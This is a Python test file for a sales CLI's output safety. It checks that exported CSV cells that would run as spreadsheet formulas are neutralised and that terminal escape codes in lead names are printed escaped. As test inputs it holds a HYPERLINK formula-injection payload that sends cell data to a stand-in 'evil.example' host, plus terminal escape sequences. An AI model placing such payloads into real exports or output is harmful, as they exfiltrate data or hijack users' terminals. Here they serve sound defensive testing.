"""Output safety (issue 15, docs/security.md): csv cells a spreadsheet would run as formulas are
neutralised while numbers stay numbers; terminal escape codes and other control characters in
names and notes are shown escaped by every table and plain output, never raw; a `|` does not break
a github table; json stays exact. On real repositories through the real CLI."""
from __future__ import annotations

import csv
import io
import json
import re

from hypothesis import given, settings
from hypothesis import strategies as st

from helpers import BASE, git, make_repo, run
from salesctl.cli.term import columns
from salesctl.render import FORMULA_START, csv_cell, render, table_cell

OSC_TITLE = "\x1b]0;pwned\x07"
RAW = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f]")   # a control character other than newline and tab


def ok(*args, records):
    r = run(*args, records=records)
    assert r.exit_code == 0, f"{args}\n{r.stdout}\n{r.stderr}"
    return r


def lead_named(tmp_path, name: str, notes: str | None = None):
    if any(ord(c) < 32 or 0x7f <= ord(c) < 0xa0 for c in name + (notes or "")):
        # control characters cannot be typed into `lead add` (one line of plain text): they come in a file
        from salesctl.yamlio import dumps

        data = {"id": "L-0009", "name": name, "phone": "13900000123", "source": "walk-in",
                "created": "2026-08-03T10:15:00+08:00", **({"notes": notes} if notes else {})}
        root = make_repo(tmp_path / "r", {**BASE})
        (root / "leads").mkdir(exist_ok=True)
        (root / "leads" / "L-0009.yaml").write_text(dumps(data), encoding="utf-8")
        git(root, "add", "-A")
        git(root, "commit", "-q", "-m", "lead with control characters")
        return root, "L-0009"
    root = make_repo(tmp_path / "r", {**BASE})
    lid = ok("lead", "add", f"name={name}", "phone=13900000123", "source=walk-in",
             *([f"notes={notes}"] if notes else []), records=root).stdout.strip()
    return root, lid


def test_a_formula_exported_to_csv_is_neutralised(tmp_path):
    root, lid = lead_named(tmp_path, '=HYPERLINK("http://evil.example/?x="&A1,"点我")')
    text = ok("lead", "list", "-f", "csv", records=root).stdout
    rows = {r["id"]: r for r in csv.DictReader(io.StringIO(text))}
    assert rows[lid]["name"] == "'" + '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
    for start in ("+cmd", "-2+3", "@SUM(A1)", "\tx", "\rx"):
        assert csv_cell(start) == "'" + start.replace("\r", "\\r")


def test_numbers_stay_numbers_in_csv():
    """A negative amount stays -3000.00; a phone +8613900000000 stays as typed (a number, not a formula)."""
    from decimal import Decimal

    text = render([{"amount": Decimal("-3000"), "n": -2, "phone": "+8613900000000", "why": "-3000 退款"}],
                  ["amount", "n", "phone", "why"], "csv")
    row = next(csv.reader(io.StringIO(text.splitlines()[1])))
    assert row == ["-3000.00", "-2", "+8613900000000", "'-3000 退款"]


def test_payout_csv_keeps_deductions_numbers(tmp_path):
    """The payroll file: a deduction is a negative number, never quoted (docs/month-end.md formats)."""
    root = make_repo(tmp_path / "r", {**BASE})
    text = ok("payout", "--month", "2026-08", "--by", "staff", "-f", "csv", records=root).stdout
    for row in csv.reader(io.StringIO(text)):
        for value in row:
            assert not value.startswith("'") or not re.fullmatch(r"'[+-]?\d+(\.\d+)?", value)


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=30))
def test_a_csv_cell_never_starts_with_a_formula_character_unless_it_is_a_number(text):
    value = csv_cell(text)
    number = re.fullmatch(r"[+-]?(\d+(\.\d*)?|\.\d+)", value)
    assert not value.startswith(FORMULA_START) or number
    assert not text.startswith(FORMULA_START) or number or value.startswith("'")
    assert not RAW.search(value.replace("\r", ""))      # \r escaped too; newline and tab are csv's own
    back = next(csv.reader(io.StringIO(render([{"x": text}], ["x"], "csv").split("\n", 1)[1] or '""')), [""])
    assert back[0] == value


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=30), st.sampled_from(["table", "github", "plain", "pipe", "grid", "tsv"]))
def test_a_table_cell_holds_no_control_character(text, fmt):
    value = table_cell(text, fmt)
    assert not re.search("[\x00-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", value)
    if fmt in ("github", "pipe"):
        assert re.search(r"(?<!\\)\|", value) is None


def test_lead_show_prints_escape_codes_escaped(tmp_path):
    root, lid = lead_named(tmp_path, f"王芳{OSC_TITLE}\x1b[2J", notes="第一行\n第二行\t完\r覆盖\x9b31m")
    for fmt in ("table", "plain", "github", "simple", "grid"):
        out = ok("lead", "show", lid, "-f", fmt, records=root).stdout
        assert "\x1b" not in out and "\x07" not in out and "\x9b" not in out and "\r" not in out, fmt
        assert "王芳\\x1b]0;pwned\\x07\\x1b[2J" in out
        assert "第一行\\n第二行\\t完\\r覆盖\\x9b31m" in out
    # json stays exact: its own escapes, read back to the very characters
    data = json.loads(ok("lead", "show", lid, "-f", "json", records=root).stdout)
    assert data["name"] == f"王芳{OSC_TITLE}\x1b[2J" and data["notes"] == "第一行\n第二行\t完\r覆盖\x9b31m"
    # and the lists, the commit note on stderr and the commit message itself
    assert "\x1b" not in ok("lead", "list", records=root).stdout
    assert "\x1b" not in git(root, "log", "-1", "--format=%B")


def test_a_check_message_quoting_a_name_is_escaped(tmp_path):
    root = make_repo(tmp_path / "r", {**BASE, "leads/L-0002.yaml": f"""
        id: L-0002
        name: "x{OSC_TITLE}"
        source: walk-in
        created: 2026-08-03T10:15:00+08:00
        owner: S-9
        status: contacted
    """})
    r = run("check", records=root)
    assert "\x1b" not in r.stdout + r.stderr


def test_a_pipe_in_a_name_keeps_the_github_table_whole(tmp_path):
    root, lid = lead_named(tmp_path, "张|三 | 有限公司")
    out = ok("lead", "list", "-f", "github", records=root).stdout
    lines = out.splitlines()
    assert "张\\|三 \\| 有限公司" in out
    # every line has the header's count of unescaped bars, and the same width (Chinese counted double)
    bars = [len(re.findall(r"(?<!\\)\|", ln)) for ln in lines]
    assert len(set(bars)) == 1 and len({columns(ln) for ln in lines}) == 1, out


def test_chinese_text_stays_aligned_with_escapes(tmp_path):
    root, lid = lead_named(tmp_path, "欧阳\x1b[31m娜娜")
    lines = ok("lead", "list", records=root).stdout.splitlines()
    row = next(ln for ln in lines if ln.startswith(lid))
    assert "欧阳\\x1b[31m娜娜" in row
    for col, value in (("source", "walk-in"), ("created", "2026-")):   # each column starts where its header does
        assert columns(row[:row.index(value)]) == columns(lines[0][:lines[0].index(col)])
